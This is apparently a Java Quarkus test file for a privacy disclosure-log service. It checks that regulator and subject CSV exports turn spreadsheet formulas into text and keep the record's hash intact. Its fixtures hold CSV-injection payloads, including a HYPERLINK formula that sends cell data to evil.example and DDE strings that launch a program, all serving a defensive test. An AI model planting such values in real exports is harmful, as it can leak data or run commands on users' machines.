package jp.onplanetz.privacy.disclosurelog.rest;

import io.quarkus.test.junit.QuarkusTest;
import io.restassured.specification.RequestSpecification;
import jp.onplanetz.privacy.disclosurelog.ledger.EntryHeader;
import jp.onplanetz.privacy.testinfra.TestTokens;
import org.junit.jupiter.api.Test;

import java.util.HexFormat;
import java.util.List;
import java.util.function.Function;

import static io.restassured.RestAssured.given;
import static jp.onplanetz.privacy.disclosurelog.support.Records.append;
import static jp.onplanetz.privacy.disclosurelog.support.Records.newSubject;
import static jp.onplanetz.privacy.disclosurelog.support.Records.today;
import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.startsWith;

/**
 * A record whose counterparty wrote spreadsheet formulas into its own name, address and items: the regulator's
 * export and the subject's download in CSV show them as text (a leading apostrophe), never as something a
 * spreadsheet would run, and the record's own bytes in the last column are still the ones its hash covers.
 */
@QuarkusTest
class RecordCsvFormulaTest {

    private static final String NAME = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Open your records\")";
    private static final String ADDRESS = "+81 3 0000 0000";
    private static final String REPRESENTATIVE = "@SUM(1+1)*cmd|' /C calc'!A0";
    private static final String ITEM = "-2+3+cmd|' /C calc'!A0";

    private static String receivingWithFormulas(String subject) {
        return """
                {"subjectId": "%s", "provider": {"name": %s, "address": "%s", "representative": "%s"},
                 "providerObtainedBy": "the provider's own web form",
                 "firstDay": "%s", "lastDay": "%s", "items": ["%s", "name"],
                 "consent": "the user consented on the provider's form to share these items with us"}"""
                .formatted(subject, json(NAME), ADDRESS, REPRESENTATIVE, today(), today(), ITEM);
    }

    private static String json(String text) {
        return '"' + text.replace("\\", "\\\\").replace("\"", "\\\"") + '"';
    }

    @Test
    void theRegulatorsExportAndTheSubjectsDownloadShowAFormulaAsTextAndKeepTheRecordsBytes() {
        String subject = newSubject();
        String recordId = append("/api/v1/records/receivings", receivingWithFormulas(subject));
        String sha256 = given().auth().oauth2(TestTokens.privacyOfficer()).when().get("/api/v1/records/{id}", recordId)
                .then().statusCode(200).extract().path("recordSha256");

        List<Function<RequestSpecification, String>> downloads = List.of(
                spec -> spec.auth().oauth2(TestTokens.privacyOfficer()).queryParam("subject", subject)
                        .when().get("/api/v1/records/export")
                        .then().statusCode(200).contentType(startsWith("text/csv")).extract().asString(),
                spec -> spec.auth().oauth2(TestTokens.subject(subject))
                        .when().get("/api/v1/subjects/{s}/records", subject)
                        .then().statusCode(200).contentType(startsWith("text/csv")).extract().asString());
        for (Function<RequestSpecification, String> download : downloads) {
            List<List<String>> rows = RecordResourceTest.Csv.parse(download.apply(given().accept("text/csv")));
            assertThat(rows).hasSize(2);
            List<String> header = rows.get(0);
            List<String> row = rows.get(1);
            assertThat(row.get(header.indexOf("recordId"))).isEqualTo(recordId);
            assertThat(row.get(header.indexOf("counterparty"))).isEqualTo("'" + NAME);
            assertThat(row.get(header.indexOf("counterpartyAddress"))).isEqualTo("'" + ADDRESS);
            assertThat(row.get(header.indexOf("counterpartyRepresentative"))).isEqualTo("'" + REPRESENTATIVE);
            assertThat(row.get(header.indexOf("items"))).isEqualTo("'" + ITEM + ";name");
            for (String cell : row) {
                assertThat(cell).as("a cell a spreadsheet would run").doesNotStartWith("=").doesNotStartWith("+")
                        .doesNotStartWith("-").doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r");
            }
            // the record's exact bytes are untouched: they still hash to what the ledger's leaf covers
            String record = row.get(header.indexOf("record"));
            assertThat(record).contains("=HYPERLINK");
            assertThat(HexFormat.of().formatHex(EntryHeader.payloadSha256(record))).isEqualTo(sha256);
        }
    }
}
